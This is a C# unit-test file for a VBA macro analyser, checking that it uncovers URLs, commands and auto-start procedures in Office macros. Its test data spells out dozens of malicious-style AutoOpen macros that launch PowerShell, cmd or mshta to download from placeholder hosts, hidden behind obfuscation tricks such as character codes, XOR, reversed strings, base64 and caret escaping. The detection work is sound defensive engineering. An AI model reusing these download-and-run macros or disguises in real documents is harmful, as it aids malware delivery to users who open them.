using System.Text;
using Hikeshi.Analysis.Macros;
using Hikeshi.Formats.Cfb;
using Hikeshi.Formats.Vba;
using Hikeshi.Kernel;

namespace Hikeshi.Analysis.Tests;

public sealed class MacroReadingTests
{
    static MacroReading Read(string source, params VbaSourceForm[] forms) => Read([new VbaSourceModule("Module1", source)], forms);

    static MacroReading Read(IReadOnlyList<VbaSourceModule> modules, params VbaSourceForm[] forms)
    {
        var document = CompoundFileWriter.Write(VbaProjectWriter.Streams("Macros", modules, forms));
        return MacroReading.Read(VbaProject.Read(document, Limits.Default)!, Limits.Default);
    }

    static string[] Values(MacroReading reading, string kind) => [.. reading.Facts.Where(f => f.Kind == kind).Select(f => f.Value)];

    static void FindsOnly(MacroReading reading, params string[] urls) =>
        Assert.Equal(urls.Order(StringComparer.Ordinal), Values(reading, "url").Order(StringComparer.Ordinal));

    static string Utf16(string script) => Convert.ToBase64String(Encoding.Unicode.GetBytes(script));

    const string Url = "http://one.invalid-host.example/wp-content/a1/";
    const string Second = "https://two.example.test/b2/?x=1";

    public static TheoryData<string, string> Disguises() => new()
    {
        { "joined texts", "Shell \"power\" & \"shell -c iwr ht\" + \"tp://one.invalid-host.example\" & _\n  \"/wp-content/a1/\", 0" },
        { "character codes", "Shell " + string.Join(" & ", ("powershell iwr " + Url).Select(c => $"Chr({(int)c})")) + ", 0" },
        { "character codes with arithmetic", "Shell " + string.Join(" & ", ("cmd /c start " + Url).Select(c => $"ChrW$(&H{c + 3:X} - 3)")) },
        { "StrReverse", $"x = StrReverse(\"{new string([.. ("powershell -c iwr " + Url).Reverse()])}\")\nGetObject(\"winmgmts:Win32_Process\").Create x" },
        { "Replace", $"x = Replace(\"{Url.Replace("e", "QQ", StringComparison.Ordinal)}\", \"QQ\", \"e\")\nShell \"powershell \" & x" },
        { "Split and Join", $"x = Join(Split(\"{string.Join("zz", Url.Chunk(3).Select(c => new string(c)))}\", \"zz\"), \"\")\nShell \"mshta \" & x" },
        { "Mid over every second character", $"s = \"{string.Concat(Url.Select(c => $"{c}#"))}\"\nFor i = 1 To Len(s) Step 2\n  t = t & Mid(s, i, 1)\nNext i\nShell \"cmd /c start \" & t" },
        { "Left, Right and LCase", $"x = Left(\"{Url}zzz\", {Url.Length})\nShell LCase(\"POWERSHELL \") & Right(\"zz\" & x, {Url.Length})" },
        { "array of codes", $"a = Array({string.Join(", ", Url.Select(c => (int)c + 7))})\nFor i = LBound(a) To UBound(a)\n s = s & Chr(a(i) - 7)\nNext\nShell \"cmd /c \" & s" },
        { "exclusive or", $"a = Split(\"{string.Join(",", Url.Select(c => c ^ 21))}\", \",\")\nFor Each n In a\n s = s & Chr(CInt(n) Xor 21)\nNext\nShell \"cmd /c \" & s" },
        { "hexadecimal digits", $"h = \"{Convert.ToHexString(Encoding.ASCII.GetBytes(Url))}\"\nDo While Len(h) > 0\n s = s & Chr(\"&H\" & Left(h, 2))\n h = Mid(h, 3)\nLoop\nShell \"cmd /c \" & s" },
        { "carets", "Shell \"cmd /c p^o^w^ershell iwr h^t^t^p^:^/^/one.invalid^-host.exam^ple/wp-content/a1/\"" },
        { "set variables", "Shell \"cmd /v:on /c set a=http://one.inv&&set b=alid-host.example/wp-content/a1/&&call powershell iwr %a%%b%\"" },
        { "delayed expansion", "Shell \"cmd /v /c \"\"set q=ershell&&set w=http://one.invalid-host.example&&pow!q! iwr !w!/wp-content/a1/\"\"\"" },
        { "encoded PowerShell", $"Shell \"powershell -w hidden -enc {Utf16($"iwr '{Url}'")}\"" },
        { "encoded PowerShell, short option", $"Shell \"powershell -NoP -e {Utf16($"$u='{Url}';iwr $u")}\"" },
        { "FromBase64String", $"Shell \"powershell iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('{Convert.ToBase64String(Encoding.UTF8.GetBytes($"iwr {Url}"))}')))\"" },
        { "PowerShell joins", "Shell \"powershell iwr ('ht'+'tp://one.inva'+'lid-host.example/wp-con'+\"\"tent/a1/\"\")\"" },
        { "PowerShell format", "Shell \"powershell iwr ('{2}{0}{1}' -f 'one.invalid-host.example','/wp-content/a1/','http://')\"" },
        { "PowerShell -replace", "Shell \"powershell iwr ('hXXp://one.invalid-host.example/wp-content/a1/' -replace 'XX','tt')\"" },
        { "PowerShell .Replace with [char]", "Shell \"powershell iwr 'http:##one.invalid-host.example#wp-content#a1#'.('Rep'+'lace')('#','/').Replace('#',[char]47)\"" },
        { "PowerShell characters", $"Shell \"powershell iwr (({string.Join(",", Url.Select(c => (int)c))}|%{{[char]$_}}) -join '')\"" },
        { "PowerShell backwards", $"Shell \"powershell iwr ('{new string([.. Url.Reverse()])}'[-1..-99] -join '')\"" },
        { "PowerShell variables", "Shell \"powershell $a='http://one.inva';$b=$a+'lid-host.example/wp';iwr ($b+'-content/a1/')\"" },
        { "function that decodes", $"Shell d(\"{string.Concat(("cmd /c " + Url).Select(c => (char)(c + 1))).Replace("\"", "\"\"", StringComparison.Ordinal)}\")\nEnd Sub\nFunction d(ByVal s As String) As String\n Dim i As Integer\n For i = 1 To Len(s)\n  d = d & Chr(Asc(Mid$(s, i, 1)) - 1)\n Next i\nEnd Function\nSub z()" },
        { "variables across procedures", "a\nb\nShell c\nEnd Sub\nPrivate Sub a()\n m = \"powershell iwr http://one.\"\nEnd Sub\nSub b()\n m = m & \"invalid-host.example\"\nEnd Sub\nFunction c()\n c = m & \"/wp-content/a1/\"\nEnd Function\nSub z()" },
        { "constants", "Const p = \"http://one.invalid-host\", q = \".example/wp-content/a1/\"\nShell \"cmd /c \" & p & q" },
        { "filled by reference", "Dim s\nfill s\nShell \"cmd /c \" & s\nEnd Sub\nSub fill(t)\n t = \"http://one.invalid-host\" & \".example/wp-content/a1/\"\nEnd Sub\nSub z()" },
        { "behind a question to the machine", "If Environ(\"USERDNSDOMAIN\") = \"TARGET\" Then\n Shell \"cmd /c http://one.invalid-host.example\" & \"/wp-content/a1/\"\nElse\n MsgBox \"no\"\nEnd If" },
        { "CallByName", "Set w = CreateObject(StrReverse(\"llehS.tpircSW\"))\nCallByName w, \"Run\", 1, \"cmd /c start http://one.invalid-host\" & \".example/wp-content/a1/\", 0" },
        { "named by a variable", "Application.Run \"stage\" & \"Two\"\nEnd Sub\nSub stageTwo()\n Shell \"cmd /c http://one.invalid-host\" & \".example/wp-content/a1/\"\nEnd Sub\nSub z()" },
        { "With and Select", "Set o = CreateObject(\"WScript.Shell\")\nSelect Case 2\nCase 1: k = \"x\"\nCase 2: k = \"http://one.invalid-host.\"\nEnd Select\nWith o\n .Run \"cmd /c \" & k & \"example/wp-content/a1/\", 0, False\nEnd With" },
        { "any number of arguments", "Shell j(\"cmd /c http://one.\", \"invalid-host.\", \"example/wp-content/a1/\")\nEnd Sub\nFunction j(ParamArray p())\n For Each x In p\n  j = j & x\n Next\nEnd Function\nSub z()" },
        { "collection", "Dim c As New Collection\nc.Add \"http://one.inva\"\nc.Add \"lid-host.example\"\nc.Add \"/wp-content/a1/\"\nShell \"cmd /c \" & c(1) & c.Item(2) & c(3)" },
        { "fields of a record", "r.a = \"http://one.inva\"\nr.b = r.a & \"lid-host.example/wp-con\"\nShell \"cmd /c \" & r.b & \"tent/a1/\"" },
        { "two-dimensional codes in Array of Array", $"For Each p In Array(Array({string.Join(",", Url.Take(20).Select(c => (int)c))}), Array({string.Join(",", Url.Skip(20).Select(c => (int)c))}))\nFor Each n In p\ns = s + ChrW(n)\nNext n, p\nShell \"mshta \" & s" },
        { "reversed base64", $"Shell \"powershell -enc \" & StrReverse(\"{new string([.. Utf16("iwr " + Url).Reverse()])}\")" },
        { "base64 with rubbish in it", $"Shell \"powershell -enc \" & Replace(\"{string.Join("@#", Utf16("iwr " + Url).Chunk(5).Select(c => new string(c)))}\", \"@#\", \"\")" },
        { "XMLHTTP", "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://one.invalid-host\" & \".example/wp-content/a1/\", False\nh.Send" },
    };

    [Theory]
    [MemberData(nameof(Disguises))]
    public void Finds_the_address_behind_every_disguise(string disguise, string body)
    {
        var head = disguise.StartsWith("variables across", StringComparison.Ordinal) ? "Dim m As String\n" : "";
        var reading = Read($"{head}Sub AutoOpen()\n{body}\nEnd Sub\n");
        FindsOnly(reading, Url);
        Assert.Equal(["AutoOpen"], Values(reading, "auto-start"));
    }

    [Fact]
    public void Finds_five_addresses_joined_by_an_at_sign_in_encoded_PowerShell()
    {
        var urls = Enumerable.Range(1, 5).Select(i => $"http://h{i}.invalid-host{i}.example/wp-content/{i}f/").ToArray();
        var script = $"$u='{string.Join('@', urls)}'.Split('@');foreach($x in $u){{try{{(New-Object Net.WebClient).DownloadFile($x,$env:temp+'\\z.exe')}}catch{{}}}}";
        var lines = string.Concat(Utf16(script).Chunk(60).Select(c => $"v = v & \"{new string(c)}\"\n"));
        FindsOnly(Read($"Sub Document_Open()\n{lines}CreateObject(\"WScript.Shell\").Run \"powershell -w hidden -enc \" & v, 0\nEnd Sub"), urls);
    }

    [Theory]
    [InlineData("*")]
    [InlineData("|")]
    [InlineData(",")]
    [InlineData("x2ws")]
    [InlineData("!")]
    public void Finds_addresses_split_by_another_separator(string separator)
    {
        FindsOnly(Read($"Sub AutoOpen()\nFor Each u In Split(\"{Url}{separator}{Second}\", \"{separator}\")\nShell \"cmd /c start \" & u\nNext\nEnd Sub"), Url, Second);
        FindsOnly(Read($"Sub AutoOpen()\nShell \"powershell ('{Url}{separator}{Second}' -split '{separator}')|%{{iwr $_}}\"\nEnd Sub"), Url, Second);
    }

    [Fact]
    public void Finds_what_is_hidden_in_forms()
    {
        var form = new VbaSourceForm("UserForm1", "power", [
            new("Label1", "shell -c iwr http://one.invalid", IsLabel: true),
            new("TextBox1", "-host.example/wp"), new("TextBox2", "x", Tag: "-content/a1/")]);
        var reading = Read("Sub AutoOpen()\nShell UserForm1.Caption & UserForm1.Label1.Caption & UserForm1.TextBox1.Text & UserForm1.Controls(\"TextBox2\").Tag\nEnd Sub", form);
        FindsOnly(reading, Url);
        Assert.Contains($"powershell -c iwr {Url}", Values(reading, "command"));
    }

    [Theory]
    [InlineData("0x7F000001")]
    [InlineData("0177.0.0.01")]
    [InlineData("2130706433")]
    [InlineData("0x7f.0.0.0x1")]
    public void Reads_hosts_written_as_numbers(string host) =>
        Assert.Contains("http://127.0.0.1/x.hta", Values(Read($"Sub AutoOpen()\nShell \"mshta ht\" & \"tp://{host}/x.hta\"\nEnd Sub"), "url"));

    [Fact]
    public void Says_where_and_what()
    {
        var reading = Read([
            new("ThisDocument", "Private Sub Document_Open()\n  Start\nEnd Sub", VbaModuleKind.Document),
            new("Module1", "Declare PtrSafe Function dl Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a, ByVal b)\nSub Start()\n  dl 0, \"http://one.\" & \"example/x.exe\"\n  Shell \"cmd /c x\" & \".exe\"\nEnd Sub")]);
        Assert.Equal([
            new MacroFact("auto-start", "Document_Open", "ThisDocument:1"),
            new MacroFact("network", "URLDownloadToFileA", "Module1:3"),
            new MacroFact("starts-program", "Shell", "Module1:4"),
            new MacroFact("command", "cmd /c x.exe", "Module1:4"),
            new MacroFact("url", "http://one.example/x.exe", "Module1:3"),
        ], reading.Facts);
    }

    [Theory]
    [InlineData("Sub Rechnung()\n ActiveDocument.Paragraphs(1).Range.Text = \"請求書\"\nEnd Sub")]
    [InlineData("Sub Print()\n Worksheets(\"Sheet1\").Range(\"A1\").Value = Left(\"abc\", 2) & Format(Now, \"yyyy\")\n Workbooks.Open \"C:\\data\\list.xlsx\"\nEnd Sub")]
    [InlineData("Function Tax(x)\n Tax = Int(x * 0.1)\nEnd Function")]
    public void Finds_nothing_in_everyday_macros(string source) => Assert.Empty(Read(source).Facts);

    [Theory]
    [InlineData("Sub AutoOpen()\nDo\nx = x & \"a\"\nLoop\nShell \"cmd /c http://late.example/a\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nFor i = 1 To 999999999\nFor j = 1 To 99999999\ny = i * j\nNext\nNext\nShell \"cmd /c http://late.example/a\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nAutoOpen\nAutoOpen\nShell \"cmd /c http://late.example/a\"\nEnd Sub")]
    [InlineData("Function f(x)\nf = f(x & x) & f(x & x)\nEnd Function\nSub AutoOpen()\ny = f(\"abcdefgh\")\nShell \"cmd /c http://late.example/a\"\nEnd Sub")]
    [InlineData("Sub AutoOpen()\nx = \"ab\"\nFor i = 1 To 64\nx = x & x\nNext\nx = Replace(x, \"a\", x)\nShell \"cmd /c http://late.example/a\"\nEnd Sub")]
    public void Ends_on_macros_that_never_end_and_still_reads_what_follows(string source) =>
        Assert.Contains("http://late.example/a", Values(Read(source), "url"));

    [Fact]
    public void Ends_on_text_nested_without_end()
    {
        foreach (var nested in (string[])["(", "((x).", "If 1 Then\n", "With x\n", "f(", "-", "Not ", "a.b(", "\"", "'a'+(", "Do\n", "Array("])
        {
            Read($"Sub AutoOpen()\nx = {string.Concat(Enumerable.Repeat(nested, 20_000))}\nEnd Sub");
            Read($"Sub AutoOpen()\n{string.Concat(Enumerable.Repeat(nested, 20_000))}\nEnd Sub");
        }
        Read($"Sub AutoOpen()\nShell \"powershell {string.Concat(Enumerable.Repeat("('a'+", 50_000))}\"\nEnd Sub");
    }

    [Fact]
    public void The_same_macros_give_the_same_facts()
    {
        var body = string.Join('\n', Disguises().Select(d => d.Data.Item2));
        Assert.Equal(Read($"Sub AutoOpen()\n{body}\nEnd Sub").Facts, Read($"Sub AutoOpen()\n{body}\nEnd Sub").Facts);
    }
}
